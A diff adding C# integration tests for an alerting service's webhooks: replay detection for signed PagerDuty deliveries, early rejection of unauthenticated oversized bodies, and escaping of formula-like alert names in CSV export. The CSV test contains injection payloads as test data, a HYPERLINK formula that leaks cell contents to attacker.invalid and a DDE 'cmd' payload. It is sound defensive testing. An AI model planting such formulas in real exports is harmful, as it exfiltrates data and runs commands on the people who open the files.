@@ -1,3 +1,4 @@
+using System.Security.Cryptography;
 using System.Text;
 using System.Text.Json;
 
@@ -213,6 +214,71 @@ public sealed class alerts_arriving_by_webhook(alerts_arriving_by_webhook.HostFi
         var right = await Http.PostHookAsync("opsgenie", body, headers: new Dictionary<string, string> { ["Authorization"] = "Bearer opsgenie-token" });
 
         Assert.Equal((401, 403, 202), (missing.Status, wrong.Status, right.Status));
+    }
+
+    [Fact]
+    public async Task a_signed_pagerduty_delivery_replayed_with_a_new_webhook_id_is_a_duplicate_and_starts_nothing()
+    {
+        var eventId = Guid.NewGuid().ToString("N");
+        var body = Encoding.UTF8.GetBytes(File.ReadAllText(AlertWebhooks.Fixture("pagerduty", "zulip-incident-triggered-v3.json"))
+            .Replace("01BZYIL05THJDFF2Y08X9SVMTU", eventId, StringComparison.Ordinal)
+            .Replace("PFQZPSY", "P" + eventId[..6], StringComparison.Ordinal)
+            .Replace("Test Incident 3", "NeedsTwoFixes", StringComparison.Ordinal));
+        var signature = new Dictionary<string, string>
+        {
+            ["X-PagerDuty-Signature"] = "v1=" + Convert.ToHexStringLower(HMACSHA256.HashData("pd-secret-new"u8, body)),
+            ["X-Webhook-Id"] = "first-delivery",
+        };
+
+        var original = await Http.PostHookAsync("pagerduty", body, headers: signature);
+        var started = await Http.SettledAlertAsync(original.Body.GetProperty("alerts")[0].GetProperty("id").GetString()!);
+        signature["X-Webhook-Id"] = "a-header-the-replayer-made-up";
+        var replay = await Http.PostHookAsync("pagerduty", body, headers: signature);
+        var replayed = replay.Body.GetProperty("alerts")[0];
+        var repeat = await Http.SettledAlertAsync(replayed.GetProperty("id").GetString()!);
+
+        Assert.Equal((202, 202), (original.Status, replay.Status));
+        Assert.Equal("Started", started.Outcome());
+        Assert.Equal(started.GetProperty("alert").GetProperty("id").GetString(), replayed.GetProperty("duplicateOf").GetString());
+        Assert.Equal(1, replay.Body.GetProperty("duplicates").GetInt32());
+        Assert.Equal("Duplicate", repeat.Outcome());
+        Assert.Empty(repeat.Decisions());
+        var (_, after) = await Http.SendAsync(HttpMethod.Get, $"/api/alerts/{started.GetProperty("alert").GetProperty("id").GetString()}");
+        Assert.Equal(2, after.GetProperty("runs").GetArrayLength());
+    }
+
+    [Fact]
+    public async Task a_wrong_bearer_token_is_refused_before_a_chunked_body_over_the_limit_is_read()
+    {
+        var wrong = await Http.PostChunkedAsync("/hooks/opsgenie", 8L * 1024 * 1024, new Dictionary<string, string> { ["Authorization"] = "Bearer nope" });
+        var unsigned = await Http.PostChunkedAsync("/hooks/pagerduty", 8L * 1024 * 1024, new Dictionary<string, string>());
+        var right = await Http.PostChunkedAsync("/hooks/opsgenie", 8L * 1024 * 1024, new Dictionary<string, string> { ["Authorization"] = "Bearer opsgenie-token" });
+
+        // Read first and refused after, these would be 413: the body is over the limit.
+        Assert.Equal((403, 401), (wrong.Status, unsigned.Status));
+        Assert.Equal(413, right.Status);
+    }
+
+    [Fact]
+    public async Task alert_names_that_look_like_formulas_are_plain_text_in_the_csv_export()
+    {
+        var names = new[] { "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)" };
+        foreach (var name in names)
+        {
+            Assert.Equal("Unautomated", (await Http.SettledAlertAsync((await Http.PostGenericAsync(new { name })).Single())).Outcome());
+        }
+
+        using var response = await Http.GetAsync(new Uri("/api/toil/unautomated?format=csv", UriKind.Relative));
+        var csv = await response.Content.ReadAsStringAsync();
+
+        Assert.Contains("\"'=HYPERLINK(\"\"http://attacker.invalid/?\"\"&A1,\"\"open\"\")\"", csv, StringComparison.Ordinal);
+        Assert.Contains(",'+1+cmd|' /C calc'!A0,", csv, StringComparison.Ordinal);
+        Assert.Contains(",'-2+3,", csv, StringComparison.Ordinal);
+        Assert.Contains(",'@SUM(A1:A9),", csv, StringComparison.Ordinal);
+        foreach (var cell in csv.Split('\n').SelectMany(line => line.Split(',')))
+        {
+            Assert.False(cell.TrimStart('"').Length > 0 && cell.TrimStart('"')[0] is '=' or '+' or '@', $"a cell starts a formula: {cell}");
+        }
     }
 
     private static Dictionary<string, string> PagerDutyRotation => new()
